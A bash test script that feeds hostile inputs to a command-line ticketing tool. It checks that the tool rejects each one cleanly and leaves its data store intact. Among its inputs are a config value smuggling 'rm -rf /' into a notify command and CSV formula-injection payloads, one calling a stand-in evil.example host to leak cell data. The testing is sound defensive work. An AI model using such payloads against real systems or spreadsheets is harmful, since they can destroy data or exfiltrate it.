#!/usr/bin/env bash
# Hostile input: each gets one "itsm: error:" line with the documented exit code, and the store
# is left as it was (same content, still passing `itsm check`).
source "$(dirname "$0")/lib.sh"
use_config office

run log --title "seed" --at "2026-11-23 09:00"
expect_code 0 "seed ticket"
run resolve INC-1 --resolution "done" --at "2026-11-23 10:00"
expect_code 0 "seed resolved"
before=$(store_digest)
unchanged() {
  expect_eq "$(store_digest)" "$before" "$1: store unchanged"
}

# --- configuration files --------------------------------------------------------------------
use_config office
python3 -c 'print("x = " + "[" * 100000 + "]" * 100000)' >>"$ITSM_CONFIG/itsm.toml"
run log --title "x"
expect_error 5 "itsm.toml" "arrays nested 100,000 deep"
unchanged "deep arrays"

use_config office
python3 -c 'print("x = " + "{a = " * 50000 + "1" + "}" * 50000)' >>"$ITSM_CONFIG/itsm.toml"
run log --title "x"
expect_error 5 "itsm.toml" "inline tables nested 50,000 deep"

use_config office
python3 -c 'print("[" + ".".join(["a"] * 20000) + "]")' >>"$ITSM_CONFIG/itsm.toml"
run log --title "x"
expect_error 5 "itsm.toml" "a table header 20,000 keys deep"

use_config office
head -c $((5 * 1024 * 1024)) /dev/zero | tr '\0' '#' >>"$ITSM_CONFIG/priorities.toml"
run log --title "x"
expect_error 5 "larger than 4 MiB" "a 5 MiB priorities.toml"
run sla-check --config-only
expect_code 1 "sla-check --config-only on a huge file"
expect_match "$OUT" "larger than 4 MiB" "sla-check names the huge file"

use_config office
rm "$ITSM_CONFIG/itsm.toml"
mkfifo "$ITSM_CONFIG/itsm.toml"
run log --title "x"
expect_error 5 "not a regular file" "itsm.toml is a FIFO (nothing hangs)"
unchanged "FIFO"

use_config office
printf 'timezone = "Europe/\xff\xfeLondon"\n' >"$ITSM_CONFIG/itsm.toml"
run log --title "x"
expect_error 5 "itsm.toml" "invalid UTF-8 in TOML"

use_config office
printf '\xef\xbb\xbf\x00\x01\x02 = 3\n' >"$ITSM_CONFIG/itsm.toml"
run log --title "x"
expect_error 5 "itsm.toml" "NUL and control bytes in TOML"

use_config office
sed -i '0,/response = "[^"]*"/s//response = "99999999999999999999d"/' "$ITSM_CONFIG/priorities.toml"
run log --title "x"
expect_error 5 "priorities.toml:[0-9]+:[0-9]+: .*response" "a duration out of range"
use_config office
sed -i '0,/response = "[^"]*"/s//response = "-5h"/' "$ITSM_CONFIG/priorities.toml"
run log --title "x"
expect_error 5 "priorities.toml:[0-9]+:[0-9]+: .*response" "a negative duration"
use_config office
sed -i '0,/holidays = \[/s//holidays = ["2026-02-30", /' "$ITSM_CONFIG/service-windows.toml"
run log --title "x"
expect_error 5 "service-windows.toml:[0-9]+:[0-9]+: " "a holiday that does not exist"
use_config office
printf '\n[notify]\ncommand = "sendmail -t; rm -rf /"\n' >>"$ITSM_CONFIG/itsm.toml"
run log --title "x"
expect_error 5 "itsm.toml:[0-9]+:[0-9]+: .*command. must be an array" "a notify command as one shell string"
unchanged "bad configurations"
use_config office

# --- times ----------------------------------------------------------------------------------
for t in "99999-01-01T00:00:00Z" "2026-11-23T25:00:00Z" "2026-11-23T09:00:00+25:00" \
  "-2026-11-23 09:00" "1e20" "2026-11-23 09:00 extra" $'2026-11-23\x0009:00' "$(head -c 100000 /dev/zero | tr '\0' 9)"; do
  run note INC-1 "x" --at "$t"
  expect_error 2 "--at" "time out of range or malformed: ${t:0:40}"
done
ITSM_NOW="10000-01-01T00:00:00Z" run list
expect_error 2 "ITSM_NOW" "ITSM_NOW out of range"
run sla-check --warn 7
expect_code 2 "--warn out of range"
unchanged "bad times"

# --- ids and transitions --------------------------------------------------------------------
for id in INC-0 INC-99999999999999999999 "INC--1" "" "$(printf 'INC-1\n2')" "ÎNC-1"; do
  run show "$id"
  [ "$CODE" -eq 2 ] || [ "$CODE" -eq 3 ] || fail "id [$id]: exit $CODE, expected 2 or 3"
  expect_match "$ERR" "^itsm: error: " "id [$id]: error prefix"
done
run assign INC-42 --group helpdesk
expect_error 3 "no ticket" "unknown id"
run hold INC-1 --reason "x"
expect_error 4 "hold" "hold a resolved ticket"
run resolve INC-1 --resolution "again"
expect_error 4 "resolve" "resolve twice"
unchanged "ids and transitions"

# --- text fields ----------------------------------------------------------------------------
head -c $((1024 * 1024)) /dev/zero | tr '\0' a >"$SCRATCH/mb"
run log --title - <"$SCRATCH/mb"
expect_error 2 "too long" "a 1 MB title"
run note INC-1 - <"$SCRATCH/mb"
expect_error 2 "too long" "a 1 MB note"
run log --title "x" --description $'esc \x1b[31m red'
expect_error 2 "control character" "an escape sequence in a description"
run log --title $'bell\x07'
expect_error 2 "control character" "a bell in a title"
run note INC-1 $'bad \xc3\x28 utf8'
expect_error 2 "UTF-8" "invalid UTF-8 in a note"
run log --title "x" --requester $'\xed\xa0\x80surrogate'
expect_error 2 "UTF-8" "an encoded surrogate in a field"
run log --title "x" --requester $'two\nlines'
expect_error 2 "single line" "a newline in a one-line field"
unchanged "bad text"

# --- CSV export: formula injection ----------------------------------------------------------
for f in '=HYPERLINK("http://evil.example/?"&A1)' '+1+cmd|calc' '-2+3' '@SUM(A1:A9)'; do
  run log --title "$f" --requester "$f" --at "2026-11-23 11:00"
  expect_code 0 "log a title that looks like a formula: $f"
done
csv=$(itsm export --format csv)
for f in '=HYPERLINK' '+1+cmd' '-2+3' '@SUM'; do
  expect_match "$csv" "(^|,)\"?'$(sed 's/[+()|]/\\&/g' <<<"$f")" "CSV: a cell starting with ${f:0:1} is guarded"
  if grep -q "^[0-9]*,[A-Z]*-[0-9]*,[a-z]*,$(sed 's/[+()|]/\\&/g' <<<"$f")" <<<"$csv"; then
    fail "CSV: an unguarded cell starts with ${f:0:1}"
  fi
done
run list --format csv
expect_match "$OUT" "'=HYPERLINK" "list --format csv guards formulas too"
itsm export --format csv >"$SCRATCH/guarded.csv"
run --db "$SCRATCH/guarded.db" import "$SCRATCH/guarded.csv"
expect_code 0 "the guarded CSV imports"
expect_eq "$(itsm --db "$SCRATCH/guarded.db" show INC-2 --format json | jq -r .title)" '=HYPERLINK("http://evil.example/?"&A1)' "the guard is removed on import"
before=$(store_digest)

# --- stores ---------------------------------------------------------------------------------
head -c 8192 /dev/urandom >"$SCRATCH/random.db"
sum=$(sha256sum <"$SCRATCH/random.db")
for cmd in "list" "log --title x" "check" "backup $SCRATCH/copy.db"; do
  # shellcheck disable=SC2086
  run --db "$SCRATCH/random.db" $cmd
  expect_error 6 "random.db" "a random file as the store: $cmd"
done
expect_eq "$(sha256sum <"$SCRATCH/random.db")" "$sum" "the random file is untouched"

sqlite3 "$SCRATCH/other.db" "CREATE TABLE notes (x); INSERT INTO notes VALUES (1);"
sum=$(sha256sum <"$SCRATCH/other.db")
run --db "$SCRATCH/other.db" log --title "x"
expect_error 6 "not an itsm store" "another application's SQLite database"
expect_eq "$(sha256sum <"$SCRATCH/other.db")" "$sum" "that database is untouched"

cp "$ITSM_DB" "$SCRATCH/future.db"
sqlite3 "$SCRATCH/future.db" "PRAGMA user_version = 4000"
sum=$(sha256sum <"$SCRATCH/future.db")
: >"$SCRATCH/empty.ndjson" # an import file must be a regular file (docs/security.md)
for cmd in "list" "log --title x" "check" "import $SCRATCH/empty.ndjson"; do
  # shellcheck disable=SC2086
  run --db "$SCRATCH/future.db" $cmd
  expect_error 6 "newer" "a schema from the future: $cmd"
done
expect_eq "$(sha256sum <"$SCRATCH/future.db")" "$sum" "the future store is untouched"

run --db "$SCRATCH/no/such/folder/itsm.db" list --format json
expect_error 6 "there is no store at $SCRATCH/no/such/folder/itsm.db" "reading a missing store named by --db"
[ ! -e "$SCRATCH/no" ] || fail "reading created the missing folder"
run --db "$SCRATCH/no/such/folder/itsm.db" check
expect_error 6 "no store" "checking a missing store"

if [ "$(id -u)" -ne 0 ]; then
  mkdir -p "$SCRATCH/ro"
  chmod 0555 "$SCRATCH/ro"
  run --db "$SCRATCH/ro/itsm.db" log --title "x"
  expect_error 6 "ro/itsm.db" "a read-only folder"
  chmod 0755 "$SCRATCH/ro"
else
  # root ignores permissions: a folder path that runs through a file is the unwritable case.
  touch "$SCRATCH/file"
  run --db "$SCRATCH/file/itsm.db" log --title "x"
  expect_error 6 "file/itsm.db" "a store under a path that cannot be a folder"
fi
run --db "$SCRATCH" log --title "x"
expect_error 6 "$SCRATCH" "a folder as the store"

# A new store and its folder are the owner's only, whatever the umask (test_permissions.sh has more).
(umask 000 && "$ITSM_BIN" --db "$SCRATCH/new/sub/itsm.db" log --title "x" >/dev/null)
expect_eq "$(stat -c %a "$SCRATCH/new/sub")" "700" "a new store folder: rwx------"
expect_eq "$(stat -c %a "$SCRATCH/new/sub/itsm.db")" "600" "a new store: rw-------"
expect_eq "$(stat -c %a "$SCRATCH/new")" "700" "folders created on the way: rwx------"

run check
expect_code 0 "the store still checks out"
unchanged "everything above"

finish
